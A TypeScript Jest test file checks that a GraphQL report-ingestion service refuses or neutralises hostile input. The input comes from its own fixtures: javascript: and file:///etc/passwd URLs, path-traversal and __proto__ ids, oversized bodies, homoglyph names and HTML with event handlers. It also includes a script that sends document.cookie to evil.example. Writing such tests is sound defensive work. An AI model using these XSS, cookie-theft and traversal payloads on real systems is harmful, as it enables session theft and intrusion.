import { declarePostgresPresence, STORE_KINDS } from '../../store/helpers/stores';
import type { TestServer } from '../http-harness';
import { expectRefusal, hostileCases, toResponse, type HostileCase } from './hostile-cases';
import { bearer, startStoreServer, type StoreServer } from './store-server';

// Ingestion (ingestReport and the review mutations) as an attacker would feed it: each case checks the exact refusal
// and that the server still answers; hostile text that is accepted is kept and returned as text, never as markup, and
// names built to deceive are flagged, never linked.

jest.setTimeout(90_000);
declarePostgresPresence('hostile ingestion');

const INGEST = 'mutation($input: IngestReportInput!) { ingestReport(input: $input) { id paragraphs notes mentions { id text entity match flags reasons candidates { entity reasons } } proposals { id } newEntities { id name flags } } }';
const ACCEPT = 'mutation($draft: ID!, $proposal: ID!) { acceptProposal(draft: $draft, proposal: $proposal) { relationship { id } } }';
const REJECT = 'mutation($draft: ID!, $proposal: ID!, $reason: String) { rejectProposal(draft: $draft, proposal: $proposal, reason: $reason) { id } }';
const ACCEPT_ENTITY = 'mutation($draft: ID!, $entity: ID!) { acceptEntity(draft: $draft, entity: $entity) { entity { id } } }';
const LINK = 'mutation($draft: ID!, $mention: ID!, $entity: ID) { linkMention(draft: $draft, mention: $mention, entity: $entity) { id } }';

const ARTICLE = ['Militia report', 'Kataib Hezbollah, which is backed by Iran, fired rockets at Camp Victory last month.', 'Qais Khazali, the leader of Asaib Ahl al-Haq, threatened Israel.'].join('\n\n');
const SOURCE = { title: 'Militia report', published: '2024-04-21', publisher: 'Test Wire', url: 'https://example.org/militia-report' };
const UNKNOWN_DRAFT = '00000000-0000-4000-8000-000000000000';

describe.each(STORE_KINDS)('ingestion on the %s store', (kind) => {
  let s: StoreServer;
  let draft: { id: string; proposals: { id: string }[]; newEntities: { id: string }[]; mentions: { id: string }[] };
  let otherDraft: { id: string; proposals: { id: string }[] };
  beforeAll(async () => {
    s = await startStoreServer(kind);
    draft = (await s.server.post({ query: INGEST, variables: { input: { text: ARTICLE, source: SOURCE } } }, bearer(s.secrets.editor))).body.data.ingestReport;
    const short = { text: 'Kataib Hezbollah attacked Israel on Friday.', source: { ...SOURCE, title: 'Short report', url: 'https://example.org/short' } };
    otherDraft = (await s.server.post({ query: INGEST, variables: { input: short } }, bearer(s.secrets.editor))).body.data.ingestReport;
  });
  afterAll(() => s?.close());

  const editor = () => bearer(s.secrets.editor);
  const ingest = (input: Record<string, unknown>, headers: () => Record<string, string> = editor) => (server: TestServer) => server.post({ query: INGEST, variables: { input } }, headers());
  const withSource = (fields: Record<string, unknown>) => ingest({ text: ARTICLE, source: { ...SOURCE, ...fields } });
  const withText = (text: string) => ingest({ text, source: SOURCE });
  const op = (query: string, variables: () => Record<string, unknown>, headers: () => Record<string, string> = editor) => (server: TestServer) => server.post({ query, variables: variables() }, headers());

  const cases: HostileCase[] = [
    ['an empty text', withText(''), { status: 200, code: 'BAD_USER_INPUT', message: 'text: is empty: paste the article text' }],
    ['a text of spaces and blank lines', withText(' \n\n \t\n'), { status: 200, code: 'BAD_USER_INPUT', message: 'text: is empty' }],
    ['binary (NUL and control bytes)', withText('PK\u0003\u0004\u0000\u0000\u0008\u0000 binary'), { status: 200, code: 'BAD_USER_INPUT', message: 'text: looks binary' }],
    ['a lone UTF-16 surrogate', withText('Kataib Hezbollah \ud800 fired rockets.'), { status: 200, code: 'BAD_USER_INPUT', message: 'text: holds an unpaired UTF-16 surrogate' }],
    [
      'invalid UTF-8 bytes in the request body',
      (server) => {
        const body = JSON.stringify({ query: INGEST, variables: { input: { text: 'Kataib Hezbollah XX fired rockets.', source: SOURCE } } });
        const [before, after] = body.split('XX');
        return fetch(server.url, { method: 'POST', headers: { 'content-type': 'application/json', ...editor() }, body: Buffer.concat([Buffer.from(before), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(after)]) }).then(toResponse);
      },
      { status: 400, code: 'BAD_REQUEST', message: /^the request body is not valid UTF-8 \(first bad byte at offset \d+\)/ },
    ],
    ['an article over 300,000 bytes', withText('Kataib Hezbollah fired rockets. '.repeat(12_000)), { status: 200, code: 'BAD_USER_INPUT', message: 'text: is 384,000 bytes, over the limit of 300,000 bytes for one article' }],
    [
      'a text of 10 MB, refused before it is read',
      // Only the headers and the first kilobyte are sent: the refusal comes from the declared length alone.
      (server) => server.raw(`POST /graphql HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: ${10 * 1024 * 1024}\r\n${Object.entries(editor()).map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n{"query":"mutation { ingestReport(input: { text: \\"${'x'.repeat(1000)}`),
      { status: 413, code: 'PAYLOAD_TOO_LARGE', message: 'request body is larger than 1,000,000 bytes (PROXYGRAPH_MAX_BODY_BYTES)' },
    ],
    ['no publication day', ingest({ text: ARTICLE, source: { title: 'No day' } }), { status: 400, code: 'BAD_USER_INPUT', message: 'Field "published" of required type "String!" was not provided.' }],
    ['an empty publication day', withSource({ published: '' }), { status: 200, code: 'BAD_USER_INPUT', message: 'source.published: is required' }],
    ['an impossible publication day', withSource({ published: '2024-02-30' }), { status: 200, code: 'BAD_USER_INPUT', message: /^source\.published: .*2024-02-30.*; give the day the article was published, YYYY-MM-DD/ }],
    ['a publication day in the future', withSource({ published: '2999-01-01' }), { status: 200, code: 'BAD_USER_INPUT', message: 'source.published: "2999-01-01" is in the future' }],
    ['a publication year, not a day', withSource({ published: '2024' }), { status: 200, code: 'BAD_USER_INPUT', message: 'source.published: "2024" is not a day' }],
    ['a publication day that is not a date', withSource({ published: '../../etc' }), { status: 200, code: 'BAD_USER_INPUT', message: 'source.published:' }],
    ['a javascript: url', withSource({ url: 'javascript:alert(document.cookie)' }), { status: 200, code: 'BAD_USER_INPUT', message: 'source.url: "javascript:alert(document.cookie)" is not an http(s) URL' }],
    ['a file: url', withSource({ url: 'file:///etc/passwd' }), { status: 200, code: 'BAD_USER_INPUT', message: 'source.url: "file:///etc/passwd" is not an http(s) URL' }],
    ['a data: url', withSource({ url: 'data:text/html,<script>alert(1)</script>' }), { status: 200, code: 'BAD_USER_INPUT', message: 'is not an http(s) URL' }],
    ['a url that is no URL', withSource({ url: 'not a url' }), { status: 200, code: 'BAD_USER_INPUT', message: 'source.url: "not a url" is not an http(s) URL' }],
    ['a title with a NUL', withSource({ title: 'Militia\u0000report' }), { status: 200, code: 'BAD_USER_INPUT', message: 'source.title: holds U+0000 (NUL), a control character, at character 8' }],
    ['a title with a line break', withSource({ title: 'Militia\nreport' }), { status: 200, code: 'BAD_USER_INPUT', message: 'source.title: holds U+000A (LINE FEED), a tab or line break' }],
    ['a publisher with a control character', withSource({ publisher: 'Wire\u001b[31m' }), { status: 200, code: 'BAD_USER_INPUT', message: 'source.publisher: holds U+001B, a control character' }],
    ['a title of 10 KB', withSource({ title: 't'.repeat(10_000) }), { status: 200, code: 'BAD_USER_INPUT', message: 'source.title: is 10000 characters, over the limit of 500' }],
    ['ingestReport without a token', ingest({ text: ARTICLE, source: SOURCE }, () => ({})), { status: 200, code: 'UNAUTHENTICATED', message: 'ingestReport needs a token with the editor role' }],
    ['ingestReport with a reader token', ingest({ text: ARTICLE, source: SOURCE }, () => bearer(s.secrets.reader)), { status: 200, code: 'FORBIDDEN', message: 'ingestReport needs the editor role; token "rita" has the reader role' }],
    ['acceptProposal without a token', op(ACCEPT, () => ({ draft: draft.id, proposal: draft.proposals[0].id }), () => ({})), { status: 200, code: 'UNAUTHENTICATED', message: 'acceptProposal needs a token with the editor role' }],
    ['rejectProposal with a reader token', op(REJECT, () => ({ draft: draft.id, proposal: draft.proposals[0].id }), () => bearer(s.secrets.reader)), { status: 200, code: 'FORBIDDEN', message: 'needs the editor role' }],
    ['linkMention without a token', op(LINK, () => ({ draft: draft.id, mention: draft.mentions[0].id, entity: 'iran' }), () => ({})), { status: 200, code: 'UNAUTHENTICATED', message: 'needs a token with the editor role' }],
    ['acceptEntity with a reader token', op(ACCEPT_ENTITY, () => ({ draft: draft.id, entity: draft.newEntities[0].id }), () => bearer(s.secrets.reader)), { status: 200, code: 'FORBIDDEN', message: 'needs the editor role' }],
    ['accepting in an unknown draft', op(ACCEPT, () => ({ draft: UNKNOWN_DRAFT, proposal: 'p1' })), { status: 200, code: 'NOT_FOUND', message: `draft "${UNKNOWN_DRAFT}" not found` }],
    ['accepting in a draft id that is no draft id', op(ACCEPT, () => ({ draft: '../../etc/passwd', proposal: 'p1' })), { status: 200, code: 'BAD_USER_INPUT', message: 'draft: must be the id of a draft' }],
    ['a draft id with a NUL', op(REJECT, () => ({ draft: `${UNKNOWN_DRAFT.slice(0, -1)}\u0000`, proposal: 'p1' })), { status: 200, code: 'BAD_USER_INPUT', message: 'draft: must be the id of a draft' }],
    ['accepting an unknown proposal', op(ACCEPT, () => ({ draft: draft.id, proposal: 'p9999' })), { status: 200, code: 'NOT_FOUND', message: 'proposal "p9999" not found' }],
    ['accepting a mention id as a proposal', op(ACCEPT, () => ({ draft: draft.id, proposal: draft.mentions[0].id })), { status: 200, code: 'NOT_FOUND', message: /^proposal "m\d+" not found/ }],
    ['accepting the proposal of another draft, beyond this one', op(ACCEPT, () => ({ draft: otherDraft.id, proposal: `p${otherDraft.proposals.length + 50}` })), { status: 200, code: 'NOT_FOUND', message: 'not found' }],
    ['rejecting an unknown proposal', op(REJECT, () => ({ draft: draft.id, proposal: '__proto__' })), { status: 200, code: 'NOT_FOUND', message: 'proposal "__proto__" not found' }],
    ['rejecting with a reason of 100 KB', op(REJECT, () => ({ draft: draft.id, proposal: draft.proposals[0].id, reason: 'r'.repeat(100_000) })), { status: 200, code: 'BAD_USER_INPUT', message: 'reason: must be at most 1000 characters; it is 100,000' }],
    ['rejecting with a reason holding a NUL', op(REJECT, () => ({ draft: draft.id, proposal: draft.proposals[0].id, reason: 'a\u0000b' })), { status: 200, code: 'BAD_USER_INPUT', message: 'reason: holds U+0000 (NUL)' }],
    ['creating a new entity that is a proposal id', op(ACCEPT_ENTITY, () => ({ draft: draft.id, entity: draft.proposals[0].id })), { status: 200, code: 'NOT_FOUND', message: 'not found' }],
    ['linking an unknown mention', op(LINK, () => ({ draft: draft.id, mention: 'm9999', entity: 'iran' })), { status: 200, code: 'NOT_FOUND', message: 'mention "m9999" not found' }],
    ['linking a mention to an unknown entity', op(LINK, () => ({ draft: draft.id, mention: draft.mentions[0].id, entity: 'no-such-entity' })), { status: 200, code: 'NOT_FOUND', message: 'entity "no-such-entity" not found' }],
    ['linking a mention to "constructor"', op(LINK, () => ({ draft: draft.id, mention: draft.mentions[0].id, entity: 'constructor' })), { status: 200, code: 'NOT_FOUND', message: 'entity "constructor" not found' }],
    ['linking a mention to an id with a NUL', op(LINK, () => ({ draft: draft.id, mention: draft.mentions[0].id, entity: 'iran\u0000' })), { status: 200, code: 'BAD_USER_INPUT', message: 'is not an entity id' }],
  ];
  hostileCases(() => s.server, cases);

  test('HTML with scripts, frames and event handlers is read as text: nothing of the markup is kept or returned', async () => {
    const html = [
      '<html><head><title>t</title><script>fetch("https://evil.example/?c="+document.cookie)</script><style>p{display:none}</style></head><body>',
      '<p onclick="alert(1)">Kataib Hezbollah, which is backed by Iran, fired rockets at Camp Victory.</p>',
      '<iframe src="https://evil.example/frame">Qais Khazali hidden in a frame</iframe>',
      '<p>Qais Khazali <img src=x onerror="alert(2)"> threatened <a href="javascript:alert(3)">Israel</a>.</p>',
      '<svg><script>alert(4)</script></svg><p>Escaped markup stays text: &lt;script&gt;alert(5)&lt;/script&gt;</p>',
      '</body></html>',
    ].join('\n');
    const response = await ingest({ text: html, source: SOURCE })(s.server);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^application\/json/);
    const read = response.body.data.ingestReport;
    expect(read.paragraphs).toEqual([
      'Kataib Hezbollah, which is backed by Iran, fired rockets at Camp Victory.',
      'Qais Khazali threatened Israel.',
      'Escaped markup stays text: <script>alert(5)</script>',
    ]);
    const kept = JSON.stringify(read);
    for (const gone of ['evil.example', 'document.cookie', 'onclick', 'onerror', 'alert(1)', 'alert(2)', 'alert(3)', 'alert(4)', 'hidden in a frame', 'display:none', '<p', '<img', '<iframe']) expect(kept).not.toContain(gone);
    expect(read.notes.join(' ')).toMatch(/HTML markup removed .*the content of \d+ script, style or embedded elements dropped/);
    // As stored: read back, the same text.
    const again = await s.server.post({ query: 'query($id: ID!) { draft(id: $id) { paragraphs } }', variables: { id: read.id } }, editor());
    expect(again.body.data.draft.paragraphs).toEqual(read.paragraphs);
  });

  test('right-to-left overrides and zero-width characters in names are kept, flagged and never linked', async () => {
    const text = 'Kataib\u202E Hezbollah fired rockets at Camp Victory.\n\nAsaib Ahl\u200B al-Haq threatened Israel.';
    const read = (await ingest({ text, source: SOURCE })(s.server)).body.data.ingestReport;
    const mention = (part: string) => read.mentions.find((candidate: { text: string }) => candidate.text.includes(part));
    expect(mention('\u202E')).toMatchObject({ entity: null, flags: expect.arrayContaining(['BIDI_CONTROL']), reasons: expect.arrayContaining([expect.stringContaining('U+202E')]) });
    expect(mention('\u200B')).toMatchObject({ entity: null, flags: expect.arrayContaining(['ZERO_WIDTH']), reasons: expect.arrayContaining([expect.stringContaining('U+200B')]) });
    // The characters stay in the text (the client shows them as markers); nothing was dropped silently.
    expect(read.paragraphs[0]).toContain('\u202E');
    expect(read.paragraphs[1]).toContain('\u200B');
  });

  test('a homoglyph imitation of a known entity is flagged as a possible imitation of it, never linked to it', async () => {
    // "Kataib Hezbollah" with a Cyrillic а (U+0430) and a Greek ο (U+03BF).
    const text = 'K\u0430taib Hezb\u03BFllah fired rockets at Camp Victory.';
    const read = (await ingest({ text, source: SOURCE })(s.server)).body.data.ingestReport;
    const mention = read.mentions.find((candidate: { text: string }) => candidate.text.startsWith('K\u0430taib'));
    expect(mention).toMatchObject({ entity: null, flags: expect.arrayContaining(['MIXED_SCRIPT', 'POSSIBLE_IMITATION']) });
    expect(mention.candidates[0]).toMatchObject({ entity: 'kataib-hezbollah' });
    expect(mention.candidates[0].reasons.join(' ')).toMatch(/look-alike|imitat/i);
    expect(read.proposals.every((proposal: { id: string }) => proposal.id)).toBe(true);
    expect(JSON.stringify(read.proposals)).not.toContain('"entity":"kataib-hezbollah"');
  });

  test('ingestReport past the rate limit: 429 with Retry-After naming the setting; other work goes on', async () => {
    const limited = await s.another({ PROXYGRAPH_RATE_LIMIT: '2/3600' });
    const send = () => ingest({ text: ARTICLE, source: SOURCE })(limited);
    expect((await send()).status).toBe(200);
    expect((await send()).status).toBe(200);
    const refused = await send();
    await expectRefusal(limited, refused, { status: 429, code: 'RATE_LIMITED', message: 'PROXYGRAPH_RATE_LIMIT=2/3600' });
    expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
  });
});
